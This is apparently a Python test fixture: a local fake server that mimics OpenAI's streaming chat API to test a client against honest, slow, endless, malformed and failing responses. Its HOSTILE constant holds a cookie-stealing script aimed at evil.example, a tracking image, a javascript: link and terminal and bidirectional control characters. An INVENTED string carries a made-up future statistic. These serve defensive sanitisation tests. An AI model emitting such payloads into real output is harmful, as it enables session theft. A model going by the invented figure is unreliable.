"""A server on this machine that speaks OpenAI's protocol as its path says.

Honest, slow, broken, hostile.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.conftest import serving

INVENTED = " It will be 98.7 % in 2031."
HOSTILE = (
    '<script>fetch("https://evil.example/"+document.cookie)</script><b>Fine</b> ![](https://evil.example/?q=1) '
    "[details](javascript:alert(1)) \x1b[31mred\u202e, write to jane.doe@example.com."
)


class ModelServer(ThreadingHTTPServer):
    """Answers by the first part of the path.

    What it was asked, and with which headers.
    """

    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[dict[str, Any]] = []
        self.headers: list[dict[str, str]] = []
        self.says: Callable[[dict[str, Any]], str] = honest
        self.working = True
        """Whether `/switch` answers, or has a fault."""
        super().__init__(("127.0.0.1", 0), _Handler)

    def url(self, manner: str = "says") -> str:
        """What `CUSHION_LLM_URL` is set to."""
        return f"http://127.0.0.1:{self.server_address[1]}/{manner}/v1"

    @property
    def sent(self) -> dict[str, Any]:
        """The document that came last: the question and the facts."""
        result: dict[str, Any] = json.loads(self.asked[-1]["messages"][1]["content"])
        return result


def honest(document: dict[str, Any]) -> str:
    """What a good model says: the first fact."""
    return f"In short: {document['facts'][0]['fact']}"


@contextmanager
def model_server() -> Iterator[ModelServer]:
    """A running server."""
    with serving(ModelServer()) as server:
        yield server


def part(content: Any, finish: str | None = None) -> dict[str, Any]:
    return {"choices": [{"index": 0, "delta": {"content": content}, "finish_reason": finish}]}


class _Handler(BaseHTTPRequestHandler):
    server: ModelServer
    protocol_version = "HTTP/1.0"

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.server.asked.append(body)
        self.server.headers.append({name.lower(): value for name, value in self.headers.items()})
        manner, _, rest = self.path.removeprefix("/").partition("/")
        assert rest == "v1/chat/completions", self.path
        with suppress(BrokenPipeError, ConnectionResetError):  # whoever asked has read enough
            getattr(self, f"_{manner}", self._status)(manner, json.loads(body["messages"][1]["content"]))

    def _head(self, status: int = 200, kind: str = "text/event-stream", **headers: str) -> None:
        self.send_response(status)
        self.send_header("content-type", kind)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()

    def _data(self, *parts: Any) -> None:
        for item in parts:
            self.wfile.write(b"data: " + (item if isinstance(item, bytes) else json.dumps(item).encode()) + b"\n\n")
        self.wfile.flush()

    def _stream(self, text: str) -> None:
        self._head()
        self.wfile.write(b": a comment\n\nevent: message\n")
        self._data({"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]})
        self._data(*(part(text[at : at + 7]) for at in range(0, len(text), 7)))
        self._data(part(None, "stop"), {"choices": [], "usage": {"total_tokens": 12}}, b"[DONE]")

    def _says(self, manner: str, document: dict[str, Any]) -> None:
        self._stream(self.server.says(document))

    def _switch(self, manner: str, document: dict[str, Any]) -> None:
        if self.server.working:
            self._says(manner, document)
        else:
            self._status("500", document)

    def _whole(self, manner: str, document: dict[str, Any]) -> None:
        self._head(kind="application/json")
        message = {"role": "assistant", "content": self.server.says(document)}
        self.wfile.write(
            json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}, indent=1).encode()
        )

    def _status(self, manner: str, document: dict[str, Any]) -> None:
        headers = {"retry_after": "77"} if manner == "429" else {}
        if manner == "302":
            headers = {"location": self.server.url()}
        self._head(int(manner), "application/json", **headers)
        self.wfile.write(b'{"error": {"message": "no"}}')

    def _slow(self, manner: str, document: dict[str, Any]) -> None:
        time.sleep(3)
        self._says(manner, document)

    def _drip(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        for _ in range(30):
            self._data(part("a"))
            time.sleep(0.1)

    def _endless(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        for _ in range(1_000_000):
            self._data(part("more and more "))

    def _silent(self, manner: str, document: dict[str, Any]) -> None:
        """Never a word, and never an end."""
        self._head()
        for _ in range(1_000_000):
            self._data({"choices": []})

    def _line(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self.wfile.write(b"data: " + b"x" * 200_000)

    def _broken(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self._data(part("The ratio is"))

    def _length(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self._data(part("The ratio is 12", "length"))

    def _error(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self._data(part("The ratio"), {"error": {"message": "overloaded"}})

    def _empty(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self._data(part("  "), part(None, "stop"))

    def _types(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self._data(part(5))

    def _list(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self._data([])

    def _deep(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self._data(b"[" * 50_000)

    def _text(self, manner: str, document: dict[str, Any]) -> None:
        self._head(kind="text/html")
        self.wfile.write(b"<html>Sign in</html>")

    def _bytes(self, manner: str, document: dict[str, Any]) -> None:
        self._head()
        self.wfile.write(b"data: \xff\xfe\x00\n\n")

    def _nothing(self, manner: str, document: dict[str, Any]) -> None:
        self.connection.close()

    def log_message(self, *_: Any) -> None:
        """Nothing is printed."""
